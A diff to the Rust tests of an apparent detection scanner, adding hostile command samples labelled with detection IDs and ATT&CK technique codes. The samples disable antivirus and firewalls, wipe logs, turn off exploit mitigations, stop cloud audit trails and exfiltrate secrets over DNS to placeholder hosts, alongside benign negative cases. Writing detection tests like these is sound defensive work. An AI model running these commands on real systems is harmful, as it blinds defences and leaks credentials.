@@ -355,6 +355,92 @@ mod tests {
                 "ssh-key-added",
                 "T1098.004",
             ),
+            ("Set-MpPreference -dioavp 1", "av-disabled", "T1562.001"),
+            (
+                "mdatp config behavior-monitoring --value disabled",
+                "av-disabled",
+                "T1685",
+            ),
+            (
+                "dism.exe /online /disable-feature /featurename:Windows-Defender-ApplicationGuard",
+                "av-disabled",
+                "T1685",
+            ),
+            ("taskkill /f /im SophosHealth.exe", "av-disabled", "T1685"),
+            (
+                "sudo iptables -P INPUT ACCEPT",
+                "firewall-disabled",
+                "T1686",
+            ),
+            ("ufw logging off", "firewall-disabled", "T1562.004"),
+            (
+                "New-NetFirewallRule -DisplayName x -Direction Outbound -Action Allow",
+                "firewall-rule-changed",
+                "T1686",
+            ),
+            (
+                "iptables -I INPUT -p tcp --dport 4444 -j ACCEPT",
+                "firewall-rule-changed",
+                "T1686",
+            ),
+            ("sudo iptables -S", "firewall-discovery", "T1518.001"),
+            (
+                "dd if=/dev/zero of=/var/log/auth.log bs=1k count=64",
+                "linux-logs-wiped",
+                "T1070.002",
+            ),
+            (
+                "truncate -s 0 /var/lib/docker/containers/abc/abc-json.log",
+                "linux-logs-wiped",
+                "T1070.002",
+            ),
+            (
+                "echo 0 | sudo tee /proc/sys/kernel/randomize_va_space; sysctl kernel.yama.ptrace_scope=0",
+                "exploit-mitigation-disabled",
+                "T1562.001",
+            ),
+            (
+                "bcdedit /set {current} nx AlwaysOff",
+                "exploit-mitigation-disabled",
+                "T1685",
+            ),
+            (
+                "xattr -r -d com.apple.quarantine ~/Downloads/tool.app",
+                "gatekeeper-bypass",
+                "T1553.001",
+            ),
+            (
+                "aws cloudtrail stop-logging --name management-events",
+                "cloud-defences-impaired",
+                "T1562.008",
+            ),
+            (
+                "gcloud logging sinks delete audit-sink --quiet",
+                "cloud-defences-impaired",
+                "T1562.008",
+            ),
+            (
+                "nslookup `whoami | xxd -p`.exfil.example.net",
+                "dns-exfiltration",
+                "T1048.003",
+            ),
+            (
+                "for c in $(cat secrets | base32); do dig +short $(echo $c).t.example.org; done",
+                "dns-exfiltration",
+                "T1071.004",
+            ),
+            (
+                "ps -ef | grep -E 'filebeat|wazuh-agent'",
+                "security-software-discovery",
+                "T1518.001",
+            ),
+            ("pkill -SIGTERM ^cron$", "service-stopped", "T1489"),
+            ("capsh --gid=0 --uid=0 --", "setuid-abuse", "T1548.001"),
+            (
+                "powershell.exe -v 2 -nop -c \"Get-Process\"",
+                "powershell-downgrade",
+                "T1562.010",
+            ),
         ];
         for (text, id, technique) in cases {
             let hits = s.scan([*text]);
@@ -383,9 +469,36 @@ mod tests {
             "chrome --headless --disable-gpu",
             "csc Program.cs",
             "mkdir -p /tmp/build",
+            "sudo ufw status verbose",
+            "dig example.com MX",
+            "host $server",
+            "xattr -l report.pdf",
+            "sysctl -a | grep randomize_va_space",
+            "Get-Service WinDefend",
+            "aws cloudtrail describe-trails",
+            "pwsh -NoProfile -File build.ps1 -Verbose",
         ] {
             let hits = s.scan([text]);
             assert!(combined_weight(&hits) < 0.2, "{text}: {:?}", ids(&hits));
+        }
+    }
+
+    #[test]
+    fn listing_the_firewall_is_not_switching_it_off() {
+        let s = Signatures::new();
+        for text in [
+            "sudo iptables -L -n",
+            "iptables-save > rules.v4",
+            "ufw status numbered",
+        ] {
+            let hits = s.scan([text]);
+            let found = ids(&hits);
+            assert!(found.contains(&"firewall-discovery"), "{text}: {found:?}");
+            assert!(!found.contains(&"firewall-disabled"), "{text}: {found:?}");
+            assert!(
+                !found.contains(&"firewall-rule-changed"),
+                "{text}: {found:?}"
+            );
         }
     }
 
